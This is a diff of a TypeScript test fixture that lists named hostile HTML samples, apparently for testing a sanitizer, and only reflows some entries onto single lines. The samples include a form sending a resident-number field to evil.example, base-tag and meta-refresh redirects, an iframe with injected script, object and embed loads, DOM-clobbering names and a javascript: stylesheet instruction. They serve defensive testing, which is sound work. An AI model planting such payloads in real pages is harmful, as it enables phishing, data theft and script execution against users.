@@ -71,25 +71,16 @@ export const HOSTILE_HTML: readonly HostileHtml[] = [
   { name: 'a sheet over the page', html: '<style>body{display:none}</style><p>안내</p>' },
   { name: 'a sheet from elsewhere', html: '<link rel="stylesheet" href="https://evil.example/a.css"><p>안내</p>' },
   { name: 'the classes of this page', html: '<div class="modal skip" id="root">안내</div>' },
-  {
-    name: 'a form',
-    html: '<form action="https://evil.example/"><input name="rrn"><button formaction="https://evil.example/">안내</button></form>',
-  },
+  { name: 'a form', html: '<form action="https://evil.example/"><input name="rrn"><button formaction="https://evil.example/">안내</button></form>' },
   { name: 'names that hide those of the document', html: '<img name="body" id="documentElement" src="/x"><p>안내</p>' },
-  {
-    name: 'names that hide the attributes',
-    html: '<form id="x"><input name="attributes"><input name="children"></form><p>안내</p>',
-  },
+  { name: 'names that hide the attributes', html: '<form id="x"><input name="attributes"><input name="children"></form><p>안내</p>' },
   { name: 'another base', html: '<base href="https://evil.example/"><a href="/board-faq">안내</a>' },
   { name: 'a way out', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>안내</p>' },
   {
     name: 'a frame',
     html: `<iframe src="https://evil.example/" srcdoc="<script>parent.hacked=1</script>"></iframe><p>안내</p>`,
   },
-  {
-    name: 'an object',
-    html: '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a"><p>안내</p>',
-  },
+  { name: 'an object', html: '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a"><p>안내</p>' },
   { name: 'an instruction', html: `<?xml-stylesheet href="javascript:${RUN}"?><p>안내</p>` },
   {
     name: 'data and roles',
